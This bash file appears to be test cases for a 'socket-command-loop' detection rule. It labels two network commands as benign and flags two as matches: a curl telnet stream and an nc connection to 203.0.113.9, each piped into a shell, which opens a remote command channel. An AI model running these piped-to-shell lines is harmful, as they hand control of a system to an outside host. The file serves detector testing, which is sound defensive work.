#!/bin/bash
# ok: socket-command-loop
nc -w1 cache.internal 11211 < stats.txt
# ok: socket-command-loop
curl -fsSL https://x.example/list.txt | sort
# ruleid: socket-command-loop
curl -Ns telnet://203.0.113.9:9001 | bash
# ruleid: socket-command-loop
nc 203.0.113.9 4444 | sh
